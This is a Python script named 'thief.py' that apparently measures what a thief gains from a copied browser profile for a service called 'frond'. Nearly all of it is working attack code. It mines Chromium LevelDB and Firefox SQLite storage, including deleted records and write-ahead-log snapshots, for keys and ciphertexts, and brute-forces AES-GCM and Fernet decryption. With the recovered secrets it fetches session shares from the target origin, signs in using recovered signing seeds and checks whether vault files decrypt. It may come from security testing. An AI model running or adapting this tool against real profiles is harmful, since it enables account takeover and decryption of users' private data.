"""What a thief gets out of a copied browser profile.

  thief.py FOLDER ORIGIN

Reads every LevelDB (Chromium: IndexedDB, localStorage) and every SQLite database (Firefox) below FOLDER, deleted records
included: LevelDB's logs and tables as they lie there, SQLite's database as it was at each commit of its write-ahead log,
and its raw pages. Collects all byte strings that stand behind their length, whatever they are, and tries each in every
role: AES-GCM keys, nonces and ciphertexts; Fernet keys and tokens; device keys and records of sessions, whose share is
asked for at ORIGIN with the secret that lies beside. With what comes out it signs in at ORIGIN and opens an object.

Prints JSON: how much was found and tried, and whether it signed in and opened something.
"""
import base64, hashlib, hmac, json, pathlib, shutil, sqlite3, struct, sys, tempfile, time, urllib.error, urllib.request

import cramjam
from cryptography.exceptions import InvalidTag
from cryptography.fernet import Fernet, InvalidToken
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.ciphers.aead import AESGCM


def b64(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


def unsnap(data: bytes) -> bytes | None:
    try:
        return cramjam.snappy.decompress_raw(data).read()
    except Exception:  # Whatever it is, it is not snappy.
        return None


def varint(data: bytes, at: int) -> tuple[int, int] | None:
    value = shift = 0
    while at < len(data) and shift < 35:
        value |= (data[at] & 0x7F) << shift
        at, shift = at + 1, shift + 7
        if data[at - 1] < 0x80:
            return value, at
    return None


# --- LevelDB: doc/log_format.md, doc/table_format.md, write_batch.cc ---

def log_records(data: bytes):
    """Records of a log, joined from their fragments."""
    whole = b""
    for start in range(0, len(data), 32768):
        block, at = data[start:start + 32768], 0
        while at + 7 <= len(block):
            length, kind = struct.unpack_from("<HB", block, at + 4)
            if not 1 <= kind <= 4:
                break
            part = block[at + 7:at + 7 + length]
            whole = part if kind in (1, 2) else whole + part
            if kind in (1, 4):
                yield whole
            at += 7 + length


def batch_values(record: bytes):
    """Values that a write batch puts."""
    at = 12
    while at < len(record):
        puts, found = record[at] == 1, varint(record, at + 1)
        if found is None:
            return
        at = found[1] + found[0]
        if puts:
            found = varint(record, at)
            if found is None:
                return
            at = found[1] + found[0]
            yield record[found[1]:at]


def block(data: bytes, offset: int, size: int) -> bytes:
    raw, kind = data[offset:offset + size], data[offset + size:offset + size + 1]
    return (unsnap(raw) or b"") if kind == b"\x01" else raw


def entries(raw: bytes):
    """Values of a block of a table."""
    if len(raw) < 4:
        return
    end = len(raw) - 4 * (struct.unpack_from("<I", raw, len(raw) - 4)[0] + 1)
    at = 0
    while at < end:
        numbers = []
        for _ in range(3):
            found = varint(raw, at)
            if found is None:
                return
            numbers.append(found[0])
            at = found[1]
        at += numbers[1]
        yield raw[at:at + numbers[2]]
        at += numbers[2]


def table_values(data: bytes):
    footer = data[-48:]
    at = varint(footer, 0)
    at = at and varint(footer, at[1])
    index_at = at and varint(footer, at[1])
    index_size = index_at and varint(footer, index_at[1])
    if not index_size:
        return
    for handle in entries(block(data, index_at[0], index_size[0])):
        offset = varint(handle, 0)
        size = offset and varint(handle, offset[1])
        if size:
            yield from entries(block(data, offset[0], size[0]))


def leveldb(folder: pathlib.Path):
    for path in folder.rglob("*.log"):
        for record in log_records(path.read_bytes()):
            yield from batch_values(record)
    for path in folder.rglob("*.ldb"):
        yield from table_values(path.read_bytes())


def unwrapped(value: bytes):
    """A value of Chromium's IndexedDB, and what it holds compressed."""
    yield value
    at = value.find(b"\xff\x11\x02")
    if at >= 0 and (inner := unsnap(value[at + 3:])):
        yield inner


# --- SQLite ---

def snapshots(path: pathlib.Path, into: pathlib.Path):
    """The database as it was at each commit that its write-ahead log still holds, and without the log."""
    log = path.with_name(path.name + "-wal")
    data = log.read_bytes() if log.exists() else b""
    ends = [0]
    if len(data) >= 32:
        frame = 24 + struct.unpack_from(">I", data, 8)[0]
        ends += [at + frame for at in range(32, len(data) - frame + 1, frame) if struct.unpack_from(">I", data, at + 4)[0]]
    for number, end in enumerate(ends):
        copy = into / f"{number}.sqlite"
        shutil.copy(path, copy)
        copy.with_name(copy.name + "-wal").write_bytes(data[:end])
        yield copy


def sqlite(folder: pathlib.Path):
    for path in folder.rglob("*.sqlite"):
        # What pages stored; `storage/permanent` is the browser's own.
        if "/storage/default/" not in path.as_posix():
            continue
        for raw in [path, path.with_name(path.name + "-wal"), path.with_name(path.name + "-journal")]:
            if raw.exists():
                yield raw.read_bytes()
        with tempfile.TemporaryDirectory() as into:
            for copy in snapshots(path, pathlib.Path(into)):
                try:
                    connection = sqlite3.connect(copy)
                    for (data,) in connection.execute("SELECT data FROM object_data"):
                        if isinstance(data, bytes):
                            yield data
                            yield unsnap(data) or b""
                    connection.close()
                except sqlite3.Error:
                    continue


# --- What is found ---

def strings(value: bytes):
    """Every byte string of a structured clone. V8: the tag `B` of an ArrayBuffer and its length as a varint; bytes of a
    CryptoKey behind such a length alone. SpiderMonkey: the length in 64 bits, or, of a CryptoKey, in the upper half of them."""
    crypto_key = b"\\K" in value
    for at in range(len(value)):
        if value[at] == 0x42 and (found := varint(value, at + 1)):
            yield value[found[1]:found[1] + found[0]], found[0]
        if crypto_key and value[at] in (16, 32):
            yield value[at + 1:at + 1 + value[at]], value[at]
    at = value.find(b"\0\0\0\0")
    while at >= 0:
        if at >= 4 and not any(value[at - 2:at]):
            length = struct.unpack_from("<I", value, at - 4)[0]
            yield value[at + 4:at + 4 + length], length
        if at + 8 <= len(value):
            length = struct.unpack_from("<I", value, at + 4)[0]
            yield value[at + 8:at + 8 + length], length
        at = value.find(b"\0\0\0\0", at + 1)


class Found:
    def __init__(self, folder: pathlib.Path):
        self.keys, self.nonces, self.sealed, self.records = set(), set(), set(), set()
        self.values = 0
        seen = set()
        values = [inner for value in leveldb(folder) for inner in unwrapped(value)] + list(sqlite(folder))
        for value in values:
            if value in seen:
                continue
            seen.add(value)
            self.values += 1
            for text, length in strings(value):
                if len(text) != length or not 12 <= length <= 4096 or len(set(text)) < length // 8:
                    continue
                if len(text) in (16, 32):
                    self.keys.add(text)
                if len(text) in (12, 16):
                    self.nonces.add(text)
                if length >= 60:
                    self.sealed.add(text)
                    if text[0] == 2:
                        self.records.add(text)


def tried(found: Found, endpoint: "Endpoint"):
    """Everything that opens: plaintexts."""
    for key in found.keys:
        cipher = AESGCM(key)
        for nonce in found.nonces:
            for sealed in found.sealed:
                if len(sealed) < 1024:
                    try:
                        yield cipher.decrypt(nonce, sealed, None)
                    except InvalidTag:
                        pass
    tokens = {text for text in found.sealed if text[0] == 0x80 and (len(text) - 57) % 16 == 0}
    for key in (key for key in found.keys if len(key) == 32):
        yield from fernet(key, tokens)
    for record in found.records:
        yield from session(record, found, endpoint)


def fernet(key: bytes, tokens):
    cipher = Fernet(base64.urlsafe_b64encode(key))
    for token in tokens:
        try:
            yield cipher.decrypt(base64.urlsafe_b64encode(token))
        except InvalidToken:
            pass


def session(record: bytes, found: Found, endpoint: "Endpoint"):
    """A session's record (src/session/kept.rs): the share is asked for, as the page does, and all keys are tried with it."""
    account, ident, secret = record[1:17], record[17:33], record[33:65]
    at = 65
    texts = []
    for _ in range(2):
        if at + 4 > len(record):
            return
        length = struct.unpack_from(">I", record, at)[0]
        texts.append(record[at + 4:at + 4 + length])
        at += 4 + length
    if at != len(record):
        return
    share = endpoint.share(account, ident, secret)
    if share is None:
        return
    for key in (key for key in found.keys if len(key) == 32):
        yield from fernet(hmac.digest(key, b"frond/1 session keys" + ident + share, "sha256"), [texts[1]])


# --- What it is good for ---

def base32(raw: bytes) -> str:
    return base64.b32encode(raw).decode().rstrip("=").lower()


def expand(prk: bytes, info: bytes) -> bytes:
    return hmac.digest(prk, info + b"\x01", "sha256")


class Endpoint:
    def __init__(self, origin: str):
        self.origin = origin
        self.deployment = json.load(urllib.request.urlopen(f"{origin}/config.json"))["deployment"]
        self.shares = 0

    def ask(self, method: str, path: str, authorization: str, body: bytes = b""):
        request = urllib.request.Request(self.origin + path, method=method, data=body or None)
        request.add_header("authorization", authorization)
        if body:
            request.add_header("content-type", "application/json")
        for _ in range(30):
            try:
                return json.load(urllib.request.urlopen(request))
            except urllib.error.HTTPError as error:
                if error.code != 429:
                    return None
                time.sleep(0.5)
        raise SystemExit("the endpoint keeps saying that it is too much")

    def share(self, account: bytes, session: bytes, secret: bytes) -> bytes | None:
        answer = self.ask("GET", f"/v1/sessions/{base32(account)}/{base32(session)}", f"Session {b64(secret)}")
        if answer is None:
            return None
        self.shares += 1
        return base64.urlsafe_b64decode(answer["share"] + "=")

    def signed(self, seed: bytes, method: str, path: str, body: bytes = b""):
        key = Ed25519PrivateKey.from_private_bytes(seed)
        public = key.public_key().public_bytes_raw()
        now = int(time.time())
        claims = {
            "iss": base32(hashlib.sha256(public).digest()[:16]), "pub": b64(public), "aud": self.deployment, "iat": now,
            "exp": now + 60, "htm": method, "htu": self.origin + path, "bh": b64(hashlib.sha256(body).digest()),
        }
        token = ".".join(b64(json.dumps(part).encode()) for part in ({"alg": "Ed25519", "typ": "frond+jwt"}, claims))
        return self.ask(method, path, f"Bearer {token}.{b64(key.sign(token.encode()))}", body)

    def presigned(self, seed: bytes, operation: dict):
        body = json.dumps({"operations": [operation]}).encode()
        url = self.signed(seed, "POST", "/v1/presign", body)["urls"][0]
        request = urllib.request.Request(url["url"], method=url["method"], headers=url["headers"])
        if operation["op"] == "get-object":
            request.add_header("range", "bytes=0-63")
        return urllib.request.urlopen(request).read()


def windows(plain: bytes):
    """All 32 bytes in a row, from the end: that is where keys are."""
    return [plain[at:at + 32] for at in range(len(plain) - 32, -1, -1)]


def opens(endpoint: Endpoint, seed: bytes, plain: bytes) -> bool:
    """Whether one of the vault's objects opens with anything in here: the commitment to its key is in its header."""
    listing = endpoint.presigned(seed, {"op": "list-objects"}).decode()
    for key in (part.split("</Key>")[0] for part in listing.split("<Key>")[1:]):
        header = endpoint.presigned(seed, {"op": "get-object", "object": key.rsplit("/", 1)[1]})
        for vault_key in windows(plain):
            file_key = expand(hmac.digest(header[8:24], vault_key, "sha256"), b"frond/1 file")
            if expand(expand(file_key, b"frond/1 content"), b"frond/1 commit") == header[24:56]:
                return True
    return False


def main() -> None:
    folder, origin = pathlib.Path(sys.argv[1]), sys.argv[2]
    endpoint, found = Endpoint(origin), Found(folder)
    told = {
        "values": found.values, "keys": len(found.keys), "nonces": len(found.nonces), "sealed": len(found.sealed),
        "records": len(found.records), "opened": 0, "signed_in": False, "decrypted": False,
    }
    for plain in tried(found, endpoint):
        told["opened"] += 1
        for seed in windows(plain)[:80]:
            if endpoint.signed(seed, "GET", "/v1/login"):
                told["signed_in"] = True
                told["decrypted"] = told["decrypted"] or opens(endpoint, seed, plain)
                break
    print(json.dumps({**told, "shares": endpoint.shares}))


main()
